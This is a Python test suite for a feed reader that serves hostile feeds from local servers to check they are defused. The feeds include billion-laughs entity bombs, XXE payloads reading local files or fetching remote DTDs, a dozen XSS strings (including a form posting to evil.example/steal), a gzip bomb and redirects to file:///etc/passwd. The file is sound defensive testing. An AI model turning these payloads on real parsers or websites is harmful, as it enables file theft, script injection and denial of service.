"""Feeds written by strangers: entity bombs, XXE, XSS, broken documents, bombs, trickles and
redirects into the network. Every feed is served by a real HTTP server on 127.0.0.1; what reached
the servers is read from their request logs, what was kept is read from the store and the email.

No test here opens a connection to a non-loopback address: the address policy for private,
link-local, CGNAT, unique-local and mapped ranges is tested on values in tests/test_netpolicy.py.
"""

from __future__ import annotations

import json
import time
import tracemalloc
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from email import message_from_bytes, policy
from pathlib import Path

import feedparser
import lxml.html
import pytest
import yaml
from click.testing import CliRunner
from httpserver import Scripted, ScriptedHTTPServer
from test_reader import rss, write_config

from digest.cli.main import main
from digest.ingest.parse import _read_lxml, parse_feed
from digest.ingest.poller import fetch_feeds
from digest.model.types import FeedOutcome, FeedSource
from digest.store import Store

NOW = datetime(2026, 11, 28, 7, 0, tzinfo=UTC)
SECRET_TOKEN = "TOPSECRET-7f3a9c-DO-NOT-LEAK"


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "digest.sqlite3")


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET_TOKEN}\n")
    return path


def stored_text(store: Store) -> str:
    """Every text column of every stored article, as one string to search."""
    rows = store.db.execute("SELECT title, url, text, guid, source, section FROM articles")
    return "\n".join("\n".join(str(v) for v in row) for row in rows)


# -- XML entities ------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Laughs &lol9;</title>
<item><title>Bomb &lol9;</title><link>https://laughs.example/1</link>
<description>Before &lol9; after</description></item>
</channel></rss>
"""


def test_billion_laughs_expands_nothing(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store
) -> None:
    http_server.script("/laughs", Scripted(body=BILLION_LAUGHS))
    config = write_config(tmp_path, [{"url": http_server.url("/laughs")}])
    tracemalloc.start()
    started = time.perf_counter()
    try:
        (report,) = fetch_feeds(config, store, NOW, parse_workers=1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 5
    assert peak < 20 * 2**20  # a billion "lol"s would be 3 GB
    assert report.status is FeedOutcome.NEW  # the entry itself is salvaged...
    assert any("DOCTYPE with entity declarations removed" in n for n in report.notes)
    text = stored_text(store)
    assert "lollol" not in text  # ...with no entity expanded
    assert len(text) < 1000


def xxe_feeds(secret: Path, server: ScriptedHTTPServer) -> dict[str, bytes]:
    """XXE in every form we know, each valid XML and each also broken (feedparser's path)."""
    file_url = secret.as_uri()
    remote = server.url("/xxe-remote")
    dtd = server.url("/evil.dtd")
    item = (
        "<item><title>T {n} {ref}</title><link>https://xxe.example/{n}</link>"
        "<description>D {ref} {extra}</description></item>"
    )
    docs = {
        "general": (f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_url}">]>', "&xxe;", ""),
        "parameter": (
            f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{file_url}"> %p;]>',
            "plain",
            "",
        ),
        "remote": (f'<!DOCTYPE rss [<!ENTITY r SYSTEM "{remote}">]>', "&r;", ""),
        "external-dtd": (f'<!DOCTYPE rss SYSTEM "{dtd}">', "&ext;", ""),
        "xinclude": (
            "",
            "plain",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file_url}"'
            ' parse="text"/>',
        ),
    }
    out = {}
    for name, (doctype, ref, extra) in docs.items():
        for broken in (False, True):
            key = f"{name}{'-broken' if broken else ''}"
            body = item.format(ref=ref, extra=extra, n=key) + ("<item><title>cut" * broken)
            out[key] = (
                f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>X</title>'
                f"{body}</channel></rss>"
            ).encode()
    return out


def test_external_entities_read_no_file_and_fetch_no_url(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store, secret: Path
) -> None:
    feeds = xxe_feeds(secret, http_server)
    for name, body in feeds.items():
        http_server.script(f"/{name}", Scripted(body=body))
    config = write_config(tmp_path, [{"url": http_server.url(f"/{n}")} for n in feeds])
    reports = fetch_feeds(config, store, NOW)
    assert all(r.status is FeedOutcome.NEW for r in reports), [r for r in reports if r.error]
    assert store.count_articles() >= len(feeds)  # every document salvaged
    assert SECRET_TOKEN not in stored_text(store)
    paths = {r.path for r in http_server.requests}
    assert paths == {f"/{n}" for n in feeds}  # no /xxe-remote, no /evil.dtd


def test_parsers_see_no_dtd_even_called_directly(secret: Path) -> None:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        '<rss version="2.0"><channel><item><title>&xxe;</title>'
        "<link>https://xxe.example/direct</link></item></channel></rss>"
    ).encode()
    parsed = parse_feed(body, FeedSource("u", "n"), NOW)
    assert parsed.error is None and len(parsed.articles) == 1
    assert SECRET_TOKEN not in repr(parsed)
    # Defence in depth: both readers are safe on their own, DOCTYPE and all.
    document = _read_lxml(body)
    assert document is not None and SECRET_TOKEN not in repr(document)
    assert SECRET_TOKEN not in repr(feedparser.parse(body, sanitize_html=False))


# -- HTML in titles and content ----------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>Script",
    "<img src=x onerror=alert(1)>Image",
    '<a href="javascript:alert(1)">JS link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>',
    '<form action="https://evil.example/steal"><input name="password">Form</form>',
    '<iframe src="https://evil.example/"></iframe>Frame',
    "<svg onload=alert(1)><script>alert(1)</script></svg>Svg",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>Mutation",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">Handler</p>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">Object',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">Pixel',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Refresh',
]


def xss_feed(base: str) -> tuple[bytes, bytes]:
    """The corpus as an RSS feed (title, description, content:encoded, link) and an Atom one."""
    from xml.sax.saxutils import escape

    items = []
    for n, payload in enumerate(XSS):
        link = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>"][n % 2]
        body = escape(f"<p>Story {n} body.</p>{payload}")
        items.append(
            f"<item><title>{escape(payload)} {n}</title><link>{escape(link)}</link>"
            f"<guid isPermaLink='false'>xss-{n}</guid>"
            f"<description>{body}</description>"
            f"<content:encoded><![CDATA[<p>Story {n} full text.</p>{payload}]]></content:encoded>"
            "</item>"
        )
    atom = "".join(
        f'<entry><title type="html">{escape(p)} atom {n}</title><id>{base}/a{n}</id>'
        f'<link href="{base}/a{n}"/><updated>2026-11-27T10:00:00Z</updated>'
        f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Atom {n}.</p>'
        f'<script>alert(1)</script><a href="javascript:alert(1)">x</a></div></content></entry>'
        for n, p in enumerate(XSS[:3])
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        f'xmlns:atom="http://www.w3.org/2005/Atom"><channel><title>XSS</title>{"".join(items)}'
        f"</channel></rss>"
    ).encode(), (
        f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>{atom}'
        "</feed>"
    ).encode()


ACTIVE = (
    "<script",
    "alert(",
    "onerror",
    "onload",
    "onclick",
    "javascript:",
    "data:text",
    "<iframe",
    "<form",
    "<svg",
    "<object",
    "<embed",
    "<meta",
    "<img",
    "<style",
)


def test_xss_never_reaches_the_store_or_the_email(
    project: Path, http_server: ScriptedHTTPServer, secret: Path
) -> None:
    rss_body, atom_body = xss_feed(http_server.base_url)
    http_server.script("/xss.rss", Scripted(body=rss_body))
    http_server.script("/xss.atom", Scripted(body=atom_body))
    xxe = xxe_feeds(secret, http_server)
    for name, body in xxe.items():
        http_server.script(f"/{name}", Scripted(body=body))
    config = project / "config.yaml"
    data = yaml.safe_load(config.read_text())
    data["feeds"] = [
        {"url": http_server.url("/xss.rss"), "name": "XSS", "section": "World"},
        {"url": http_server.url("/xss.atom"), "name": "XSS Atom", "section": "World"},
        *({"url": http_server.url(f"/{n}"), "name": n} for n in xxe),
    ]
    data["fetch"] = {"allow_networks": ["127.0.0.1/32"], "full_text": False}
    data["digest"]["max_items_per_section"] = 100
    data["digest"]["max_items_in_email"] = 500
    config.write_text(yaml.safe_dump(data, sort_keys=False))

    def run(*args: str) -> str:
        result = CliRunner().invoke(main, [*args, "--config", str(config)])
        assert result.exit_code == 0, result.output
        return result.stdout

    out = json.loads(run("fetch", "--json"))
    assert out[0]["new_articles"] == len(XSS) and out[1]["new_articles"] == 3
    store = Store(project / "var" / "digest.sqlite3")
    kept = stored_text(store).lower()
    for marker in ACTIVE:
        assert marker not in kept, marker
    assert SECRET_TOKEN.lower() not in kept
    titles = [r[0] for r in store.db.execute("SELECT title FROM articles WHERE source = 'XSS'")]
    assert "Script 0" in titles and "Handler 8" in titles  # the words are kept, markup is not
    assert not any(r[0] for r in store.db.execute("SELECT url FROM articles WHERE source='XSS'"))

    run("send")
    emails = list((project / "var" / "outbox").rglob("*.eml"))
    assert emails
    for path in emails:
        raw = path.read_bytes()
        assert SECRET_TOKEN.encode() not in raw
        message = message_from_bytes(raw, policy=policy.default)
        for part in message.walk():
            if part.get_content_type() not in ("text/html", "text/plain"):
                continue
            content = part.get_content()
            assert "alert(" not in content and "javascript:" not in content.lower()
            if part.get_content_type() == "text/html":
                assert_inert_html(content)


def assert_inert_html(document: str) -> None:
    """No element that runs code or submits, no handler attribute, no scheme but http(s)/mailto."""
    tree = lxml.html.document_fromstring(document.encode())
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        assert tag not in {"script", "iframe", "form", "svg", "object", "embed", "math", "input"}
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (tag, name)
            if name.lower() in ("href", "src", "action", "background", "poster"):
                scheme = value.strip().split(":", 1)[0].lower() if ":" in value else ""
                assert scheme in ("", "http", "https", "mailto", "cid"), (tag, name, value)


# -- broken documents: salvaged with a note, or reported; never a crash -------------------------

GOOD_ITEM = (
    "<item><title>Fine story {n}</title><link>https://ok.example/{n}</link>"
    "<pubDate>Fri, 27 Nov 2026 10:00:00 +0000</pubDate><description>Words.</description></item>"
)


def feed(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return f'{head}<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'.encode()


BROKEN: dict[str, tuple[bytes, str | None, str]] = {
    # name: (body, expected error or None when salvaged, a note (or error) that must appear)
    "php-warning-first": (
        b"<br />\n<b>Warning</b>: session_start() failed in <b>/var/www/feed.php</b><br />\n"
        + feed(GOOD_ITEM.format(n=1)),
        None,
        "junk before <?xml removed",
    ),
    "html-page": (
        b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>",
        "not a feed: the server sent an HTML page",
        "",
    ),
    "empty": (b"", "empty response", ""),
    "whitespace": (b"   \n\n  ", "empty response", ""),
    "no-entries": (feed(""), None, "the feed has no entries"),
    "bare-entries": (
        feed(
            "<item><description>Only a body here, no title, no link, no date.</description></item>"
            "<item><title>Only a title</title></item>"
            "<item><link>https://ok.example/only-link</link></item>"
            "<item></item>"
        ),
        None,
        "1 empty entries skipped",
    ),
    "bad-utf8": (
        feed(GOOD_ITEM.format(n=2)).replace(b"Words.", b"Caf\xe9 cr\xe8me"),
        None,
        "malformed feed salvaged",
    ),
    "latin1-undeclared": (
        f'<rss version="2.0"><channel><title>T</title>{GOOD_ITEM.format(n=3)}'
        "<item><title>Caf\xe9</title><link>https://ok.example/cafe</link></item>"
        "</channel></rss>".encode("latin-1"),
        None,
        "",
    ),
    "utf16": (
        feed(GOOD_ITEM.format(n=4), '<?xml version="1.0" encoding="utf-16"?>')
        .decode()
        .encode("utf-16"),
        None,
        "",
    ),
    "truncated": (feed(GOOD_ITEM.format(n=5))[:-40], None, "malformed feed salvaged"),
    "binary": (bytes(range(256)) * 8, "not a feed", ""),
    "json": (b'{"version": "https://jsonfeed.org/version/1", "items": []}', "not a feed", ""),
    # gzip bytes without Content-Encoding (a stored .xml.gz): fetch.py inflates them, capped
    "gzip-body": (zlib.compress(feed(GOOD_ITEM.format(n=6)), wbits=31), None, ""),
    "deep-nesting": (
        feed(
            "<item><title>Deep</title><link>https://ok.example/deep</link><description>"
            + "&lt;div&gt;" * 20000
            + "bottom"
            + "&lt;/div&gt;" * 20000
            + "</description></item>"
        ),
        None,
        "",
    ),
    "xml-bomb-depth": (
        feed("<item><title>X</title>" + "<x>" * 50000 + "</x>" * 50000 + "</item>"),
        None,
        "",
    ),
}


def test_broken_documents_are_salvaged_or_reported(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store
) -> None:
    for name, (body, _, _) in BROKEN.items():
        http_server.script(f"/{name}", Scripted(body=body))
    config = write_config(tmp_path, [{"url": http_server.url(f"/{n}"), "name": n} for n in BROKEN])
    reports = {r.name: r for r in fetch_feeds(config, store, NOW)}
    for name, (_, error, note) in BROKEN.items():
        report = reports[name]
        if error:
            assert report.status is FeedOutcome.FAILED, name
            assert report.error and report.error.startswith(error), (name, report.error)
        else:
            assert report.status is FeedOutcome.NEW, (name, report.error)
            assert report.new_articles >= (0 if name == "no-entries" else 1), name
            if note:
                assert any(note in n for n in report.notes), (name, report.notes)
    bare = reports["bare-entries"]
    assert bare.new_articles == 3
    assert {"1 empty entries skipped", "2 entries without a title (titled from their text)"} <= set(
        bare.notes
    )
    assert any("without a date" in n for n in bare.notes)
    assert any("without an http(s) link" in n for n in bare.notes)
    titles = {r[0] for r in store.db.execute("SELECT title FROM articles")}
    assert "Café" in titles  # Latin-1 without a declaration, read as such
    assert "Only a body here, no title, no link, no date." in titles
    assert "ok.example/only-link" in titles


# -- size, time and where a redirect may go ----------------------------------------------------


def test_gzip_bomb_stops_at_the_cap_with_little_memory(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store
) -> None:
    http_server.serve_gzip_bomb("/bomb")  # 200 MB of zeros in about 200 KB
    config = write_config(tmp_path, [{"url": http_server.url("/bomb")}], max_bytes=2 * 2**20)
    tracemalloc.start()
    try:
        (report,) = fetch_feeds(config, store, NOW)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.status is FeedOutcome.FAILED and "larger than 2 MiB" in (report.error or "")
    assert peak < 12 * 2**20, peak
    assert store.feed_state(http_server.url("/bomb")).failures == 1


def test_trickling_server_is_cut_at_the_deadline(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store
) -> None:
    http_server.script("/slow", Scripted(body=rss("slow", 20), trickle=0.05))
    config = write_config(tmp_path, [{"url": http_server.url("/slow")}], deadline=1, read_timeout=5)
    started = time.perf_counter()
    (report,) = fetch_feeds(config, store, NOW)
    assert time.perf_counter() - started < 3
    assert report.error == "timed out after 1 s (deadline)"


def test_oversize_content_length_is_refused_before_reading(
    tmp_path: Path, http_server: ScriptedHTTPServer, store: Store
) -> None:
    http_server.script("/huge", Scripted(body=b"<rss>", content_length=500 * 2**20))
    config = write_config(tmp_path, [{"url": http_server.url("/huge")}])
    (report,) = fetch_feeds(config, store, NOW)
    assert report.status is FeedOutcome.FAILED and "larger than 10 MiB" in (report.error or "")


def test_redirect_to_a_loopback_address_the_allow_list_does_not_name(
    tmp_path: Path,
    http_server_factory: Callable[..., ScriptedHTTPServer],
    store: Store,
) -> None:
    inside = http_server_factory(host="127.0.0.2")
    inside.script("/admin", Scripted(body=rss("internal")))
    outside = http_server_factory(host="127.0.0.1")
    outside.redirect("/feed", inside.url("/admin"), status=302)
    outside.redirect("/perm", inside.url("/admin"), status=301)
    outside.redirect("/file", "file:///etc/passwd", status=302)
    config = write_config(
        tmp_path,
        [{"url": outside.url(p)} for p in ("/feed", "/perm", "/file")],
        allow_networks=["127.0.0.1/32"],
    )
    reports = fetch_feeds(config, store, NOW)
    assert [r.status for r in reports] == [FeedOutcome.FAILED] * 3
    assert all((r.error or "").startswith("refused:") for r in reports), reports
    assert "127.0.0.2" in (reports[0].error or "")
    assert inside.requests == []  # nothing reached the address behind the allow-list
    assert sorted(r.path for r in outside.requests) == ["/feed", "/file", "/perm"]
    assert store.feed_state(outside.url("/perm")).fetch_url is None  # a refused move is no move
    assert store.count_articles() == 0
